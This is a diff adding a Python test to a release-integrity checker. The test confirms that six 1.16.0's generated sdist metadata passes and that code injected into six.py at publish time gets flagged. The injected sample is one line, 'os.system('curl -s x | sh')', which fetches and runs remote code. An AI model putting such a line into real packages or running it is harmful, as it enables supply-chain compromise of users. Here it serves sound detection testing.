@@ -320,3 +320,26 @@ def test_project_in_a_subdirectory_and_the_wrong_repository(release_checker):
     result = release_checker.run(tarball, source=str(other))
     mismatch = result.only("PC109")
     assert mismatch.severity == Severity.MEDIUM and mismatch.evidence["shared"] == 0
+
+
+def test_python_sdist_metadata_is_recognised_and_injected_code_is_not(release_checker):
+    """six 1.16.0's real sdist: PKG-INFO, six.egg-info/ and the [egg_info] setup.cfg rewrite
+    are sdist outputs; code injected into six.py at publish time (the ultralytics pattern) is not."""
+    files = rd.read_tar(rd.pypi_sdist("six==1.16.0", "six-1.16.0.tar.gz"))
+    top = "six-1.16.0"
+    release = {k.split("/", 1)[1]: v for k, v in files.items()}
+    git = {k: v for k, v in release.items() if k != "PKG-INFO" and not k.startswith("six.egg-info/")}
+    git["setup.cfg"] = release["setup.cfg"].split(b"[egg_info]")[0]
+    repo = release_checker.gitrepo(git, name="six", tags="1.16.0")
+    result = release_checker.run(release_checker.tarball({f"{top}/{k}": v for k, v in release.items()},
+                                                         name="six-1.16.0.tar.gz"), source=str(repo))
+    result.assert_no_errors()
+    assert not [f for f in result.findings if f.severity > Severity.INFO], result.findings
+    v = verdicts(result.report)
+    assert v["PKG-INFO"]["system"] == "python" and v["six.egg-info/SOURCES.txt"]["verdict"] == "generated"
+    assert v["setup.cfg"]["verdict"] == "regenerated"
+    injected = dict(release, **{"six.py": release["six.py"] + b"\nimport os\nos.system('curl -s x | sh')\n"})
+    result = release_checker.run(release_checker.tarball({f"{top}/{k}": v for k, v in injected.items()},
+                                                         name="six-1.16.0.tar.gz"), source=str(repo))
+    f = result.only("PC102")
+    assert f.location.path == f"{top}/six.py" and f.severity == Severity.HIGH and "os.system" in f.evidence["diff"]
